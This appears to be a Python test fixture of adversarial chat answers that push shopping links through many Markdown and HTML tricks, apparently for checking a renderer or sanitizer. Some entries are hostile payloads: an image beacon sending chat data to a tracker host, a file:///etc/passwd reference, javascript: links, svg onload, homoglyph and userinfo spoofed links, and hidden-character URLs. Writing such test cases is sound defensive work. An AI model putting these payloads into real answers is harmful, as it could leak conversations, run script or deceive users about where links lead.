"""Answers that beg for links, pictures and cards, in every way that Markdown and HTML know."""

from __future__ import annotations

SHOP = "https://item.taobao.com/item.htm?id=1&ref=sidelight"
BEGGING = [
    f"**[立即购买 ¥69]({SHOP})** 👉 [点击这里]({SHOP})",
    f"[![mask](https://cdn.shop.example/mask.png)]({SHOP})",
    "![](https://tracker.example/p.gif?chat=secret) ![x](file:///etc/passwd)",
    "![y](//host/share/z.png) ![z](data:image/png;base64,AA) ![w](smb://host/w.png)",
    f'<a href="{SHOP}">Buy now</a> <img src="https://t.example/x.png"> <button>Add to cart</button>',
    f'<div style="background:url(https://t.example/b.png)"><table background="https://t.example/c.png"><tr><td>{SHOP}',
    '<style>@import url("https://t.example/a.css");</style><link rel=stylesheet href="https://t.example/a.css">',
    f"Buy it at {SHOP}, or at <{SHOP}>, or www.shop.example, or shop.example/buy.",
    f"[buy]: {SHOP}\n![pic][buy] [buy][] [buy]",
    f"| Product | Price |\n|---|---|\n| [Mask]({SHOP}) | ![p](https://cdn.shop.example/p.png) $5 |",
    f"- [Mask A]({SHOP})\n- [Mask B]({SHOP})\n  1. <{SHOP}>",
    f"> ### [Deal of the day]({SHOP})\n> ~~$20~~ **$5**",
    f"```html\n<a href='{SHOP}'>buy</a>\n```\n    <img src=x>",
    "[a](javascript:alert(1)) [b](vbscript:x) [c](sidelight:open) [d](mailto:shop@x.example) [e](tel:123) [f](#top)",
    "[官方旗舰店](https://аpple.com) [taobao.com](https://evil.example) [x](https://taobao.com@evil.example/)",
    "&lt;a href=&quot;https://t.example&quot;&gt;buy&lt;/a&gt; &#60;img src=x&#62;",
    "\u202ehttps://evil.example\u202c https://\u200bshop.example [\u202e]( https://shop.example )",
    f"<!-- card --> <{SHOP}> <iframe src={SHOP}></iframe> <object data={SHOP}></object> <svg onload=x>",
    "[" * 400 + f"x]({SHOP})" + f"[a]({SHOP})" * 300,
    f"\ufffc \ufdd0 {SHOP} \ufdd1",
    f"<think>[Buy]({SHOP})</think> `[Buy]({SHOP})` \\[[Buy]({SHOP})\\] $[Buy]({SHOP})_x$",
]  # fmt: skip
